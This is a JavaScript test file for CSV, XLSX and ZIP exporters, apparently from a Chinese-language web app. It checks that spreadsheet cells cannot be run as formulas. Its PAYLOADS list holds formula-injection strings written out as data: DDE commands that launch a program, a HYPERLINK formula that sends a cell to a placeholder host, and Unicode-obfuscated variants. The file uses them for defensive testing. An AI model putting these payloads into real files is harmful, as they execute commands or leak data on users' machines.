/** Holds the writers of files to what those who open them need: packed well, typed right, and no text that a spreadsheet could run. */

import assert from "node:assert/strict";
import { inflateRawSync } from "node:zlib";
import { test } from "node:test";
import { csv, risky } from "../www/export/csv.js";
import { letters, xlsx } from "../www/export/xlsx.js";
import { zip } from "../www/export/zip.js";
import { attribute, scan } from "../www/files/xml.js";
import { openZip } from "../www/files/zip.js";

/** What a spreadsheet must never take for a formula; each with the reason. */
const PAYLOADS = [
  ["=1+1", "a formula"], ["=cmd|' /C calc'!A0", "starts a program in old spreadsheets"], ['=HYPERLINK("http://example.invalid/?"&A1,"看")', "sends a cell away"],
  ["+1+cmd|' /C calc'!A0", "plus"], ["-2+3+cmd|' /C calc'!A0", "minus"], ["@SUM(A1:A9)", "as Lotus wrote it"],
  ["＝1+1", "full width"], ["＋1", "full width"], ["－1", "full width"], ["＠SUM(A1)", "full width"], ["−1+1", "the sign of mathematics"], ["﹦1+1", "small form"],
  ["\t=1+1", "TAB before it"], ["\r=1+1", "CR before it"], ["\n=1+1", "LF before it"], ["\t县级", "TAB alone shifts cells"], ["\u0000=1", "a control character"], ["\u0085=1", "a control character of Latin-1"],
  ["  =1+1", "blanks before it"], ["　＝1+1", "an ideographic blank before it"], ["\u00a0=1", "a blank that doesn't break"], ["\u200b=1", "a blank without width"], ["\ufeff=1", "a mark of order"], [" \u2060\t@A1", "several"],
  ["\u202e=1+1", "written from right to left"], ["\u2066=1\u2069", "set apart by direction"], ["\u061c-1", "an Arabic mark"], ["\u180e+1", "a Mongolian mark"], ["\ufff9=1", "a mark of notes"], ["\ufe0f@A1", "a selector of variants"], ["\u2028=1", "a line's end of another kind"],
];
const HARMLESS = ["办理案件", "1+1", "增长=持平", "a-b", "约−3.2个百分点", "《条例》", "12,360", "2022-01-26", "100%", "“引号”", "'=1", "🏛=x"];

/** Cells of a CSV as RFC 4180 has them. */
function read(words) {
  const rows = [[]];
  let cell = "", quoted = false;
  for (let i = 0; i < words.length; i++) {
    const c = words[i];
    if (quoted) { if (c === '"' && words[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c; }
    else if (c === '"' && cell === "") quoted = true;
    else if (c === ",") { rows[rows.length - 1].push(cell); cell = ""; }
    else if (c === "\r" && words[i + 1] === "\n") { rows[rows.length - 1].push(cell); cell = ""; rows.push([]); i++; }
    else cell += c;
  }
  assert.equal(cell, "");
  return rows.slice(0, -1);
}

test("CSV: every payload is made text, what is harmless stays as it is", () => {
  for (const [payload, why] of PAYLOADS) {
    const [, [cell, next]] = read(csv(["指标", "数值"], [[payload, 5]]).slice(1));
    assert.ok(risky(payload), `${why}: ${JSON.stringify(payload)}`);
    assert.equal(cell[0], "'", `${why}: ${JSON.stringify(cell)}`);
    assert.equal(cell.slice(1), payload.replace(/[\u0000-\u0008\u0080-\u009f]/g, ""), why);
    assert.equal(next, "5");
  }
  for (const words of HARMLESS) assert.equal(read(csv(["指标"], [[words]]).slice(1))[1][0], words);
});

test("CSV: its mark, its line ends, its quotes; numbers stay numbers", () => {
  const made = csv([{ title: "名称" }, { title: "值" }], [['说“是”,"否"\n第二行', -12.5], [null, 0], ["a;b", NaN], ["𬭚山", 1e21]]);
  assert.equal(made, '\ufeff名称,值\r\n"说“是”,""否""\n第二行",-12.5\r\n,0\r\n"a;b",\r\n𬭚山,1e+21\r\n');
  assert.equal(csv(["=A"], []), "\ufeff\"'=A\"\r\n", "heads are cells too");
});

/** The parts of a zip, by a reading of their own: names, sizes and checksums of directory and heads agree. */
async function parts(bytes) {
  const buffer = Buffer.from(bytes), end = buffer.length - 22, found = {};
  assert.equal(buffer.readUInt32LE(end), 0x06054b50);
  let at = buffer.readUInt32LE(end + 16);
  for (let i = 0; i < buffer.readUInt16LE(end + 10); i++) {
    const packed = buffer.readUInt32LE(at + 20), size = buffer.readUInt32LE(at + 24), length = buffer.readUInt16LE(at + 28), head = buffer.readUInt32LE(at + 42);
    const name = buffer.toString("utf8", at + 46, at + 46 + length);
    assert.deepEqual(buffer.subarray(head + 4, head + 30), buffer.subarray(at + 6, at + 32), `${name}: head and directory`);
    found[name] = inflateRawSync(buffer.subarray(head + 30 + length, head + 30 + length + packed));
    assert.equal(found[name].length, size, name);
    // The page's own reader has the browser check the sum.
    assert.deepEqual(Buffer.from(await openZip(bytes).read(name)), found[name], name);
    at += 46 + length;
  }
  assert.equal(at, end);
  return found;
}

test("a zip that any reader opens, from strings, bytes and pieces", async () => {
  const bytes = await zip([["一.txt", "字"], ["b", Uint8Array.of(0, 255, 1)], ["c", (function* () { yield "甲"; yield Uint8Array.of(0x41); })()], ["empty", ""]]);
  const found = await parts(bytes);
  assert.deepEqual(Object.entries(found).map(([name, content]) => [name, content.toString("hex")]), [["一.txt", "e5ad97"], ["b", "00ff01"], ["c", "e794b241"], ["empty", ""]]);
  assert.deepEqual(await zip([["a", "b"]]), await zip([["a", "b"]]), "the same every time");
});

/** Cells of a sheet: { A1: { type, style, words } }; throws where the XML is not well formed. */
function cells(part) {
  const found = {};
  let now = null, inText = false;
  scan(part, {
    open(name, attributes) {
      if (name === "c") found[attribute(attributes, "r")] = now = { type: attribute(attributes, "t") || "n", style: attribute(attributes, "s"), words: "" };
      if (name === "f") assert.fail("a formula");
      inText = name === "t" || name === "v";
    },
    close() { inText = false; },
    text(words) { if (inText) now.words += words; },
  });
  return found;
}

test("XLSX: numbers are numbers, text is text and can't become a formula", async () => {
  const rows = [...PAYLOADS.map(([payload], i) => [payload, i - 3, null]), ["<w:t>&\"'", 0.125, "a_x0041_b"], ["\ud800半个 🏛", Infinity, "x".repeat(40000)]];
  const found = await parts(await xlsx({ sheets: [{ name: "指标", columns: [{ title: "=名称", width: 30 }, { title: "值", plain: true }, { title: "句", wrap: true }], rows }] }));
  for (const [name, content] of Object.entries(found)) if (/xml|rels/.test(name)) scan(content, { open() {}, close() {}, text() {} });
  const sheet = cells(found["xl/worksheets/sheet1.xml"]), styles = found["xl/styles.xml"].toString();
  const quoted = [...styles.slice(styles.indexOf("<cellXfs")).matchAll(/<xf [^>]*>/g)].map(([xf]) => xf.includes('quotePrefix="1"'));
  rows.forEach(([words, number], i) => {
    const text = sheet[`A${i + 2}`];
    assert.equal(text.type, "inlineStr");
    assert.equal(quoted[text.style], risky(words), JSON.stringify(words));
    if (Number.isFinite(number)) assert.deepEqual([sheet[`B${i + 2}`].type, Number(sheet[`B${i + 2}`].words)], ["n", number]);
    else assert.equal(sheet[`B${i + 2}`], undefined);
  });
  const at = PAYLOADS.length + 2;
  assert.equal(sheet[`A${at}`].words, "<w:t>&\"'");
  assert.equal(sheet[`C${at}`].words, "a_x005F_x0041_b");
  assert.equal(sheet[`A${at + 1}`].words, "半个 🏛");
  assert.ok(sheet[`C${at + 1}`].words.length <= 32767);
  const xml = found["xl/worksheets/sheet1.xml"].toString();
  assert.match(xml, /state="frozen"/);
  assert.match(xml, new RegExp(`<autoFilter ref="A1:C${rows.length + 1}"/>`));
});

test("XLSX: names of sheets and columns that Excel takes", async () => {
  const names = ["数字核对", "数字核对", "a/b:c*d?[e]\\f", "'q'", "", "很".repeat(60), "很".repeat(60)];
  const found = await parts(await xlsx({ sheets: names.map((name) => ({ name, columns: [{ title: "一" }], rows: [] })) }));
  const given = [...found["xl/workbook.xml"].toString().matchAll(/<sheet name="([^"]*)"/g)].map(([, name]) => name);
  assert.equal(new Set(given.map((name) => name.toLowerCase())).size, names.length);
  for (const name of given) assert.ok(name.length > 0 && name.length <= 31 && !/[[\]:*?/\\]/.test(name), name);
  assert.deepEqual([0, 25, 26, 701, 702].map(letters), ["A", "Z", "AA", "ZZ", "AAA"]);
});

test("XLSX: a table of two hundred thousand cells takes no long", async () => {
  const rows = Array.from({ length: 20000 }, (_, i) => [`青澜区${i}`, 2023, i, "件", "全年办理案件若干件。", i, i + 5, "a", "b", 0.5]), start = Date.now();
  const bytes = await xlsx({ sheets: [{ name: "全部", columns: rows[0].map((_, i) => ({ title: `列${i}` })), rows }] });
  assert.ok(Date.now() - start < 10000 && bytes.length > 100000);
});
